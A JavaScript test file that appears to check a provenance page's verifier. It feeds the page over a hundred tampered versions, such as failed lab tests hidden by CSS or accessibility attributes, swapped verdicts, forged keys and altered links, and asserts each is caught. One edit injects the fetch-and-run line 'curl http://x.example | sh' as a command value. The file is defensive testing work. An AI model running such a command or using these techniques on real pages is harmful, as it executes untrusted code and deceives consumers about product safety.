// A valid proof, and a page that shows something else.
import assert from "node:assert/strict";

import { newKey, note } from "./forge.mjs";
import { band, verdict } from "./world.mjs";

const once = (find, put) => (html) => html.replace(find, put);

// Lines that a reader takes for letters.
const letters = '<path d="M4 4v40M4 4h20M4 24h16M30 4v40h14"/>';

// [what the page shows, check that must fail, html -> html]
const edits = [
  ["a better value than was measured", "values", once('data-value="41"', 'data-value="11"')],
  // the visible text, with unchanged attributes
  ["a better number", "values", once("41\u00a0mg/kg", "11\u00a0mg/kg")],
  ["another unit", "values", once("41\u00a0mg/kg", "41\u00a0µg/kg")],
  ["a failed test as passed", "values", once(/(class="result">)Fail</, "$1Pass<")],
  ["another product", "facts", once(/(<h1[^>]*>(?:<a[^>]*>)?(?:<bdi>)?)[^<]+/, "$1Saffron")],
  ["a product without its fact mark", "shown", once(/<h1[^>]*>/, "<h1>")],
  ["another maker", "facts", once(/(data-fact="maker"[^>]*>(?:<bdi>)?)[^<]+/, "$1Somebody else")],
  ["another origin", "facts", once(/(data-fact="origin"[^>]*>(?:<bdi>)?)[^<]+/, "$1Tuscany")],
  ["other harvest days", "facts", once(/(data-fact="harvest"[^>]*>(?:<bdi>)?)[^<]+/, "$1Harvested yesterday")],
  ["another signer", "facts", once(/(class="timeline">[^]*?data-fact="signer"[^>]*>(?:<bdi>)?)[^<]+/, "$1Somebody else")],
  ["another time", "facts", once(/(data-fact="time"[^>]*>)\d+/, "$132")],
  ["a signer without its fact mark", "shown", once(/(class="timeline">[^]*?)data-fact="signer"/, "$1")],
  ["another lot number", "facts", once(/(data-fact="lot"[^>]*>(?:<bdi>)?)[^<]+/, "$1NILAM-2611-01")],
  ["another title of a document", "documents", once(/(<li data-document="[^]*?<p[^>]*>(?:<a[^>]*>)?(?:<bdi>)?)[^<]+/, "$1Organic certificate")],
  ["a failed test as unclear", "values", once(/(class="result">)Fail</, "$1Not clear<")],
  ["another day of a test", "values", once(/(<article class="test [^]*?class="when">)[^<]+/, "$11\u00a0Jan\u00a02020")],
  ["a value without its uncertainty", "values", once(/ <span class="nb more spread">[^<]+<\/span>/, "")],
  ["a step as a test", "values", (html) => asTest(html)],
  ["no test result where there are some", "facts", once(/(data-fact="inspected") data-of="[^"]*">[^<]+/, '$1 data-of="">No test result yet')],
  ["that the lot itself was not tested", "facts", once(/(data-fact="inspected") data-of="[^"]*">[^<]+/, '$1 data-of="">This lot itself has not been tested')],
  ["no harvest", "shown", once(/<span data-fact="harvest"[^>]*>[^<]+<\/span>/, "")],
  ["more records left out than there are", "shown", once('<ol class="timeline">', '<p class="note" id="hidden">12 records between the first and the last are not shown here.</p><ol class="timeline">')],
  ["more tests left out than there are", "values", once(/(<section id="tests"[^]*?)<\/section>/, '$1<p class="note">3 more tests are not shown here.</p></section>')],
  ["a failed test left out, and said so", "values", (html) => once(/<article class="test fail"[^]*?<\/article>/, "")(html).replace(/(<section id="tests"[^]*?)<\/section>/, '$1<p class="note">2 more tests are not shown here.</p></section>')],
  ["a failed test left out of a short list, and said so", "values", (html) => once(/<article class="test fail"[^]*?<\/article>/, "")(html).replace(/(<section id="tests"[^]*?)<\/section>/, '$1<p class="note">1 more test is not shown here.</p></section>')],
  ["more documents left out than there are", "documents", once(/(<section id="documents"[^]*?)<\/section>/, '$1<p class="note" data-left>3 older documents are not shown here.</p></section>')],
  ["a standing record as corrected", "shown", once(/<li (data-record="[^]*?)<\/h3>/, '<li class="voided" $1 <span class="tag">corrected later</span></h3>')],
  ["a record of an honest key as of a stolen one", "shown", once(/(<li data-record="[^]*?)<\/h3>/, '$1 <span class="tag bad">key was compromised</span></h3>')],
  ["the signer of another step", "facts", (html) => swapFacts(html)],
  ["a laboratory as who made it", "facts", (html) => asMaker(html)],
  ["a laboratory as who made it, by other marks", "facts", (html) => asMaker(html, (record) => `data-about="${record}" data-record="${record}"`)],
  ["the result of another test as the title of a step", "facts", (html) => swapTitles(html)],
  ["a failed test in its step as one without a result", "facts", once(/(data-fact="title">)Inspection: failed/, "$1Tested")],
  ["the amount of the lot at a step", "facts", once(/(<p class="when" data-fact="time">[^<]*<\/p>)/, '$1<p class="more" data-fact="amount" data-of="">12.2\u00a0kg</p>')],
  ["two steps the other way round", "shown", once(/(<li data-record="[^]*?<\/li>)(\s*)(<li data-record="[^]*?<\/li>)/, "$3$2$1")],
  ["another title of a step", "facts", once(/(data-fact="title"[^>]*>)[^<]+/, "$1Blessed")],
  ["a step without its title", "shown", once('data-fact="title"', 'data-was="title"')],
  ["another amount of a step", "facts", once(/(data-fact="moved"[^>]*><span class="keep">)[^<]+/, "$12,000\u00a0kg DAUN-2611-07")],
  ["a step without its amounts", "shown", once(/<p class="moved" data-fact="moved"[^]*?<\/p>/, "")],
  ["another amount of the lot", "facts", once(/(data-fact="amount"[^>]*>)[^<]+/, "$1900\u00a0kg")],
  ["another region", "facts", once(/(data-fact="where"[^]*?, )[^<]+/, "$1Tuscany")],
  ["another detail of a step", "shown", once(/(data-fact="detail"[^>]*>)[^<]+/, "$1Award: gold")],
  ["a detail less", "shown", once(/<p class="more" data-fact="detail"[^]*?<\/p>/, "")],
  ["another limit", "values", once(/(class="verdict">Fail<\/span> · limit: at most )[0-9]+/, "$199")],
  ["another verdict of a value", "values", once(/(class="verdict">)Fail/, "$1Pass")],
  ["another colour of a value", "values", once(/<li class="fail" data-parameter/, '<li class="pass" data-parameter')],
  ["a failed test in the colour of one that passed", "values", once('<article class="test fail"', '<article class="test pass"')],
  ["another name of a parameter", "values", once(/(data-parameter="[^"]*iron"[^]*?class="name">)[^<]*(<bdi>)?[^<]+/, "$1$2Gold content")],
  ["another method", "values", once(/(<p class="judged">[^]*?· )(?:<bdi>)?ISO [0-9-]+(?:<\/bdi>)?/, "$1ISO 1")],
  ["another standard", "facts", once(/(data-fact="standard"[^>]*>[^]*?)SNI/, "$1GOLD")],
  ["a test without its standard", "shown", once(/<p class="more" data-fact="standard"[^]*?<\/p>/, "")],
  ["a test without its accreditation", "shown", once(/<p class="more" data-fact="accreditation"[^]*?<\/p>/, "")],
  ["a value in two pieces", "values", once(/(<b class="nb value">)4(1\u00a0mg)/, "$1<small>4</small>$2")],
  ["a value in two pieces, one after its point", "values", once(/(<b class="nb value">\d+)(\.\d+)/, "$1<span>$2</span>")],
  ["a value that may be broken in two lines", "values", once('<b class="nb value"', '<b class="value"')],
  ["a value with its unit in capital letters", "values", once('<b class="nb value"', '<b class="nb value over"')],
  ["another accreditation", "facts", once(/(data-fact="accreditation"[^>]*>[^]*?)KAN/, "$1FDA")],
  ["another kind of document", "documents", once(/(class="kind">(?:<bdi>)?)[^<]+/, "$1Organic certificate")],
  ["an older clock", "facts", once(/(data-fact="clock" data-of=")[0-9]+/, "$11")],
  ["another date of the page", "facts", once(/(data-fact="clock"[^>]*>)[^<]+/, "$1As of tomorrow")],
  ["another ledger in its details", "facts", once(/(data-fact="ledger"[^>]*>)[^<]+/, "$1urn:jejak:ledger:other")],
  ["another command", "facts", once(/(data-fact="command"[^>]*>)[^<]+/, "$1curl http://x.example | sh")],
  ["a sentence more", "text", once('<section id="journey"', '<p>Certified organic.</p><section id="journey"')],
  ["a word more in a heading", "text", once(/(<section id="tests"[^>]*>\s*<h2>)[^<]+/, "$1Tests: all passed")],
  ["a sentence more in the band", "text", once(/(<p class="tally"[^>]*>)[^<]+/, "$1Records genuine, goods excellent")],
  ["a picture more", "text", once('<section id="journey"', '<img alt="Gold" src="/static/x/mark.svg"><section id="journey"')],
  ["a word in a drawing", "text", once(/(<svg class="pictogram"[^>]*>)/, '$1<text x="1" y="9">Gold</text>')],
  ["what the server computed without its mark", "text", once(/(<section id="balance"[^]*?)<small class="computed">[^<]+<\/small>/, "$1")],
  ["something else as computed by the server", "text", once('<section id="journey"', '<p data-by="server">Gold <small class="computed">computed by the server</small></p><section id="journey"')],
  ["another mark", "text", once(/(<section id="balance"[^]*?class="computed">)[^<]+/, "$1checked by everybody")],
  ["a mark that nobody sees", "text", styled("#balance .computed { opacity: .1 }")],
  ["a sentence above the page's main part", "text", once("<main", "<p>Certified organic.</p><main")],
  ["a sentence in its foot", "text", once(/<footer[^>]*>/, "$&<p>Certified organic.</p>")],
  ["a mark of the server around it, above the main part", "text", once("<main", '<p data-by="server">Certified organic. <small class="computed">computed by the server</small></p><main')],
  ["a picture above the main part", "text", once("<main", '<img alt="" src="/static/x/mark.svg"><main')],
  // what a screen reader says
  ["another name of its sections", "text", once(/(<nav class="jump" aria-label=")[^"]+/, "$1All tests passed")],
  ["another name of its map", "text", once(/(<svg [^>]*role="img" aria-label=")[^"]+/, "$1From Tuscany")],
  ["a value by another name", "text", once('<b class="nb value"', '<b class="nb value" aria-label="11 mg/kg"')],
  ["a value in the words of another element", "text", once('<b class="nb value"', '<b class="nb value" aria-labelledby="main"')],
  ["a value as a picture", "text", once('<b class="nb value"', '<b role="img" class="nb value"')],
  ["a title of a test", "text", once('<article class="test fail"', '<article title="Passed" class="test fail"')],
  ["a description of a value", "text", once('<b class="nb value"', '<b aria-description="excellent" class="nb value"')],
  ["words in a drawing of its own", "text", once("</body>", '<svg width="0" height="0"><symbol id="gold" viewBox="0 0 9 9"><text y="9">Gold</text></symbol></svg></body>')],
  ["a drawing from elsewhere", "text", once(/<use href="#p-[^"]*"/, '<use href="/static/x/mark.svg#gold"')],
  ["a drawing with a title", "text", once(/<svg class="pictogram"[^>]*>/, "$&<title>Certified organic</title>")],
  ["a failed test that a screen reader leaves out", "values", once('<article class="test fail"', '<article aria-hidden="true" class="test fail"')],
  ["a failed test that is inert", "values", once('<article class="test fail"', '<article inert class="test fail"')],
  // what counts as unseen, and is seen by everybody
  ["words that a screen reader leaves out, beside the product", "text", once(/(<h1[^>]*><a[^>]*>[^]*?)<\/a>/, '$1<span aria-hidden="true">, certified organic</span></a>')],
  ["inert words beside a time", "text", once(/(data-fact="time"[^>]*>[^<]*)/, "$1<b inert> certified organic</b>")],
  ["faint words beside a time", "text", once(/(data-fact="time"[^>]*>[^<]*)/, '$1<b class="zone"> certified organic</b>')],
  ["an uncertainty that a screen reader leaves out", "text", once(/(<b class="nb value">[^<]*<\/b>)(?! <span class="nb more spread)/, '$1 <span class="nb more spread" aria-hidden="true">±\u00a00</span>')],
  // drawings
  ["letters as lines of a drawing", "text", once('<section id="journey"', `<svg viewBox="0 0 48 48">${letters}</svg><section id="journey"`)],
  ["letters in the drawing of the goods", "text", once(/<symbol class="p" id="p-[0-9]+"[^>]*>/, `$&${letters}`)],
  ["letters in the drawing of a state", "text", once(/<symbol class="s" id="s-verified"[^>]*>/, `$&${letters}`)],
  ["letters as the spread of a value", "text", once(/<rect class="spread"[^>]*>/, '$&<rect class="spread" x="9" y="0" width="2" height="18"/>')],
  ["letters as limits of a value", "values", once(/<rect class="limit"[^>]*>/, '$&<rect class="limit" x="9" y="0" width="1.5" height="18"/>')],
  ["a drawing that changes later", "text", once(/<svg class="pictogram"[^>]*>/, '$&<animate attributeName="viewBox" to="0 0 9 9" dur="9s"/>')],
  ["the drawing of a good state in the place of that of the goods", "text", once(/(<svg class="pictogram"[^>]*><use href=")[^"]*/, "$1#s-verified")],
  ["the band below all else", "text", (html) => moved(html, /<section id="verdict"[^]*?<\/section>/, "</main>")],
  ["the first screen below the journey", "text", (html) => moved(html, /<article class="card what"[^]*?<\/article>/, '<section id="tests"')],
  ["what the server computed beside a value", "text", once('<b class="nb value">', '<span class="why" data-by="server">1 mg/kg <small class="computed">computed by the server</small></span>$&')],
  ["a failed test under the drawing of one that passed", "values", once('href="#v-fail"', 'href="#v-pass"')],
  ["a failed value under the drawing of one that passed", "values", once('href="#m-fail"', 'href="#m-pass"')],
  ["a failed value within the good zone", "values", once(/(<use class="mark" href="#m-fail" x=")[^"]*/, "$115")],
  ["a good zone around a failed value", "values", once(/(<li class="fail"[^]*?class="zone" x=")[^"]*(" y="7" width=")[^"]*/, "$10$2300")],
  ["a second band, by its colour and drawing alone", "text", once('<section id="verdict"', '<section class="band verified"><svg class="shape" aria-hidden="true" viewBox="0 0 48 48"><use href="#s-verified"/></svg></section>$&')],
  // elements that say something by themselves
  ...["<meter value='.9'></meter>", "<progress value='.9'></progress>", "<hr>", "<table><tr><td></td></tr></table>", "<iframe srcdoc='Gold'></iframe>", "<object data='/x'></object>", "<embed src='/x'>", "<dialog open></dialog>", "<math><mi>Gold</mi></math>", "<input value='Gold'>", "<template></template>"].map((more) => [
    `${/\w+/.exec(more)[0]} elements`, "text", once('<section id="journey"', `${more}<section id="journey"`),
  ]),
  ["a struck value", "text", once(/(<b class="nb value">)([^<]*)/, "$1<s>$2</s>")],
  ["a step struck out as if it were voided", "shown", once('<section id="journey" class="card"', '<section id="journey" class="card voided"')],
  ["a number before a value", "text", once(/<li class="(\w+)" data-parameter/, '<li type="1" value="11" class="$1" data-parameter')],
  ["the page from right to left", "text", once("<html ", '<html dir="rtl" ')],
  ["a value from right to left by its attribute", "text", once('<b class="nb value"', '<b dir="rtl" class="nb value"')],
  ["words that a button shows", "text", once('<section id="journey"', '<div popover id="gold">Lot</div><section id="journey"')],
  ["no test result, elsewhere than at the tests", "text", once('<section id="journey"', '<p>No test result is on the ledger for this lot yet.</p><section id="journey"')],
  ["how many checks passed, at its tests", "text", once(/<section id="tests"[^>]*>/, "$&<p>12 of 12 checks passed</p>")],
  // what the head says of the page
  ["another page after a while", "text", once("</head>", '<meta http-equiv="refresh" content="600;url=/"></head>')],
  ["another width of the page", "text", once("width=device-width, initial-scale=1", "width=9000")],
  ["another width of the page beside its own", "text", once("</head>", '<meta name="VIEWPORT" content="width=9000"></head>')],
  ["its links by another address", "text", once("<head>", '<head><base href="/01/">')],
  // links
  ["a link to another site", "text", once(/(<h1[^>]*><a href=")[^"]*/, "$1https://other.example/")],
  ["a download from another site", "text", once(/(<a class="button" href=")[^"]*/, "$1//other.example/proof")],
  ["another record behind a step", "text", once(/(<p class="ref"><a href="\/entries\/)[a-z2-7]{4}/, "$1aaaa")],
  ["another file behind a document", "text", once(/(<a href="\/evidence\/)[a-z2-7]{4}/, "$1aaaa")],
  // absence
  ["no amount of the lot", "shown", once(/<span class="nb" data-fact="amount"[^]*?<\/span>/, "")],
  ["no time that it is as of", "shown", once(/<p class="as-of"[^]*?<\/p>/, "")],
  ["no word on what is trusted", "text", once(/<p class="note" id="trust"[^]*?<\/p>/, "")],
  ["no word on what a proof shows", "text", once(/<p class="lead">The proof shows[^]*?<\/p>/, "")],
  ["no kind of a document", "documents", once(/<span class="kind">[^]*?<\/span>/, "")],
  ["the first screen in a closed part", "shown", once(/<ul class="facts">([^]*?)<\/ul>/, '<details><summary>Technical details</summary><ul class="facts">$1</ul></details>')],
  // letters that are none of the text
  ["words that the style sheet writes", "text", styled(".band .word::after { content: ', certified organic' }")],
  ["words in a shadow tree", "text", once('<section id="journey"', '<div><template shadowrootmode="open"><p>Certified organic.</p></template></div><section id="journey"')],
  // text that is there, and that nobody sees so
  ...Object.entries({
    "a value in no size": ".bars .value { font-size: 0 }",
    "a transparent value": ".value { color: transparent }",
    "a faint value": ".bars { opacity: .2 }",
    "a value in the colour of its ground": ".value { color: var(--card) }",
    "a value that is cut off": ".value { display: inline-block; width: 1ch; overflow: hidden; text-overflow: ellipsis }",
    "a value that is clipped": ".value { clip-path: inset(100%) }",
    "a test off the page": ".test.fail { position: absolute; left: -9999px }",
    "a test without height": ".test.fail { height: 0; overflow: hidden }",
    "a test that is scaled to nothing": ".test.fail { transform: scale(.001) }",
    "a value from right to left": ".value { unicode-bidi: bidi-override; direction: rtl }",
    "a value that is turned": ".value { display: inline-block; transform: rotate(180deg) }",
    "a value that is turned otherwise": ".value { display: inline-block; rotate: 180deg }",
    "a value that is blotted out by a line": ".value { text-decoration: line-through 1em }",
    "a value that is blotted out by strokes": ".value { -webkit-text-stroke: 9px }",
    "a value under an outline": ".value { outline: 2em solid #fff; outline-offset: -2em }",
    "a value with letters on each other": ".value { letter-spacing: -.5em }",
    "a value as dots": ".value { -webkit-text-security: disc }",
    "a value that is blended away": ".value { mix-blend-mode: screen }",
    "an indented value": ".value { display: block; text-indent: -9999px; overflow: hidden }",
  }).map(([what, style]) => [what, "values", styled(style)]),
  ["a test behind a picture", "shown", styled(".test.fail { position: relative } .cover { position: absolute; inset: 0; background: #fff }")],
  ["another size of a document", "documents", once(/(<li data-document="[^]*?class="nb">)[^<]+/, "$11\u00a0kB")],
  ["one document less", "documents", once(/<li data-document="[^]*?<\/li>/, "")],
  ["a document under another hash", "documents", once(/(<li data-document=")[a-z2-7]{4}/, "$1aaaa")],
  ["a hidden document", "documents", once('<ul class="documents">', '<dialog><ul class="documents">')],
  ["a hidden test", "values", once('<article class="test ', '<article hidden class="test ')],
  ["a failed test taken out of the list of tests", "values", once(/<article class="test fail"[^]*?<\/article>/, "")],
  ["a hidden value", "values", once(/<li class="(\w+)" data-parameter/, '<li hidden class="$1" data-parameter')],
  ["a hidden recall", "shown", once(/(<span data-fact="recall")/, '<span hidden data-fact="recall"')],
  ["no recall mark", "shown", once('data-fact="recall"', "")],
  ["another word in its band", "state", once(/(class="word">(?:<bdi>)?)[^<]+/, "$1Certified")],
  ["a band of another state", "state", once('data-state="verified"', 'data-state="failed"')],
  ["one step less", "shown", once(/<li data-record="[^]*?<\/li>/, "")],
  [
    "a value of another parameter",
    "values",
    once(/data-parameter="[^"]*iron" data-value="41"/, (m) => m.replace("iron", "lead")),
  ],
  ["a test's values under another test's record", "values", (html) => swapTests(html)],
  ["a test that is not in the proof", "shown", once(/(class="test pass" data-record=")[a-z2-7]{4}/, "$1aaaa")],
  ["a step that is not in the proof", "shown", once(/(<li data-record=")[a-z2-7]{4}/, "$1aaaa")],
  ["another ledger", "bundle", once(/(data-ledger="urn:jejak:ledger:)[a-z2-7]{4}/, "$1aaaa")],
  ["another lot", "address", once(/(data-lot="[^"]+)"/, '$1X"')],
  [
    "another log key",
    "checkpoint",
    once(/data-log-key="([^+"]+)[^"]+"/, (_, name) => `data-log-key="${note(name, newKey(), "").verifier}"`),
  ],
  ["an invalid log key", "checkpoint", once(/data-log-key="[^"]+"/, 'data-log-key="x"')],
];

// With a part before another one.
function moved(html, part, before) {
  const [text] = part.exec(html);
  return html.replace(text, "").replace(before, () => text + before);
}

// With a style sheet of its own, and an element that may cover a failed test.
function styled(style) {
  return (html) => html.replace("</head>", `<style>${style}</style></head>`).replace(/(<article class="test fail"[^>]*>)/, '$1<span class="cover"></span>');
}

// A name that a record states, beside words that it does not.
function asMaker(html, marks = () => "") {
  const [signer, record] = /<span data-fact="signer" data-of="([a-z2-7]{52})">[^]*?<\/span>/.exec(html);
  const marked = signer.replace("data-fact", `${marks(record)} data-fact`);
  return html.replace('<ul class="facts">', `<ul class="facts"><li><span>Made by ${marked}</span></li>`);
}

// The titles of a failed and a passed test's steps, each with its mark, at the other's step.
function swapTitles(html) {
  const found = ["failed", "passed"].map((result) => new RegExp(`<li data-record="([a-z2-7]{52})"(?:(?!</li>)[^])*?(data-fact="title">Inspection: ${result})`).exec(html));
  const [[, failed, bad], [, passed, good]] = found;
  const marked = (title, record) => `data-of="${record}" data-record="${record}" ${title}`;
  return html.replace(bad, "\u0000").replace(good, marked(bad, failed)).replace("\u0000", marked(good, passed));
}

// A step that no laboratory signed, as a test without values.
function asTest(html) {
  const [, record, index] = /<li data-record="([a-z2-7]{52})" data-index="(\d+)">/.exec(html);
  const signer = /<span data-fact="signer"[^>]*>[^]*?<\/span>/.exec(html)[0].replace(/data-of="\w+"/, `data-of="${record}"`);
  const article = `<article class="test pass" data-record="${record}" data-index="${index}"><h3><span class="result">Pass</span></h3>${signer}<p class="when">9\u00a0Nov\u00a02026</p><ul class="bars"></ul></article>`;
  return html.replace(/<article class="test /, (m) => article + m);
}

// The signers of the first two steps that have different ones, each with its mark, at the other's step.
function swapFacts(html) {
  const found = [...html.slice(html.indexOf('class="timeline"')).matchAll(/<span data-fact="signer"[^>]*>[^]*?<\/span>/g)].map((m) => m[0]);
  const bare = (span) => span.replace(/data-of="\w+"/, "");
  const other = found.find((span) => bare(span) !== bare(found[0]));
  return html.replace(found[0], "\u0000").replace(other, found[0]).replace("\u0000", other);
}

function swapTests(html) {
  const [first, second] = [...html.matchAll(/class="test \w+" data-record="([a-z2-7]{52})"/g)].map((m) => m[1]);
  return html.replace(`class="test pass" data-record="${first}"`, `class="test pass" data-record="${second}"`);
}

// A failed or recalled lot, shown as something better.
const asVerified = (state, word) => (html) =>
  html
    .replace(`class="band ${state} `, 'class="band verified ')
    .replace(`data-state="${state}"`, 'data-state="verified"')
    .replace(`href="#s-${state}"`, 'href="#s-verified"')
    .replace(`<p class="word">${word}`, '<p class="word">Verified');
const improved = [
  ["NILAM-2611-02", "a failed lot as verified", "state", asVerified("failed", "Failed inspection")],
  ["ALP-2611-04", "a recalled lot as verified", "state", asVerified("recalled", "Recalled")],
  ["NILAM-2611-02", "a good state beside a failed one", "state", once(/(<p class="by">[^]*?<\/div>\s*)(<ul class="also">|<\/section>)/, (_, before, next) => `${before}${next.startsWith("<ul") ? next : `<ul class="also">`}<li class="verified"><svg aria-hidden="true" viewBox="0 0 48 48"><use href="#s-verified"/></svg>Verified</li>${next.startsWith("<ul") ? "" : "</ul></section>"}`)],
  ["NILAM-2611-02", "a failed test in a calm colour", "facts", once(/<li class="bad">((?:(?!<\/li>)[^])*data-fact="inspected")/, '<li class="quiet">$1')],
  ["NILAM-2611-02", "a failed test with words in green", "text", once('<span data-fact="inspected"', '<span class="good" data-fact="inspected"')],
  ["ALP-2611-04", "a recall in a calm colour", "facts", once(/<li class="bad">((?:(?!<\/li>)[^])*data-fact="recall")/, '<li class="quiet">$1')],
  ["ALP-2611-04", "a recall as none", "facts", once(/(data-fact="recall") data-of="[^"]*">[^<]+/, '$1 data-of="">No recall, no hold')],
];

// Styles that no check of the words could notice: such a page is not called proven.
const restyled = {
  "a picture of words": ".what { background-image: url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><text y='20'>Gold</text></svg>\") }",
  "a failed test moved away": ".test.fail { position: relative; top: 5000px }",
  "values in another order": ".bars { display: flex; flex-direction: column-reverse }",
  "a failed test that is not printed": "@media print { .test.fail { display: none } }",
  "a failed test that a wide window has not": "@media (min-width: 1000px) { .test.fail { display: none } }",
};
const styles = [
  ...Object.entries(restyled).map(([what, style]) => [what, once("</head>", `<style>${style}</style></head>`)]),
  ["a style of an element", once('<article class="card what"', '<article style="margin-top: -3px" class="card what"')],
  ["no style sheet", once(/<link rel="stylesheet"[^>]*>/, "")],
  ["another style sheet", once(/(<link rel="stylesheet" href=")[^"]*\//, "$1/static/other/")],
].map(([what, edit]) => [
  `the page has ${what}: the server's result stays`,
  edit,
  async (page) => {
    await page.waitForFunction((words) => document.querySelector("#verdict .by").textContent === words, (await band(page)).say.sayFonts);
    const now = await band(page);
    assert.deepEqual([now.state, now.checked], ["verified", undefined]);
    assert.ok(now.classes.includes("server") && !now.classes.includes("phone"));
  },
]);

export default function tests(world) {
  const broken = (what, check, edit) => [
    `the page shows ${what} → ${check}`,
    edit,
    async (page) => {
      const now = await verdict(page);
      assert.equal(now.state, "broken", `the page accepted it: ${now.tally}`);
      assert.equal(
        now.tally,
        now.say.sayFailing.replace("%check%", now.say[`check${check[0].toUpperCase()}${check.slice(1)}`]),
      );
    },
  ];
  const all = [
    ...[...edits.map((edit) => ["NILAM-2611-03B", ...edit]), ...improved].map(([lot, ...edit]) => [lot, ...broken(...edit)]),
    ...styles.map((style) => ["NILAM-2611-03B", ...style]),
  ];
  return all.map(([lot, what, edit, holds]) => [
    what,
    async () => {
      const { path } = world.lot(lot);
      const prepare = (page) =>
        page.route(`**${path}?*`, async (route) => {
          const answer = await route.fetch();
          const { "content-encoding": _, "content-length": __, ...headers } = answer.headers();
          // who changes a page may drop its policy
          delete headers["content-security-policy"];
          const html = await answer.text();
          const changed = edit(html);
          assert.notEqual(changed, html, "nothing was changed");
          await route.fulfill({ headers, body: changed });
        });
      await world.visit({ at: path, prepare }, holds);
    },
  ]);
}
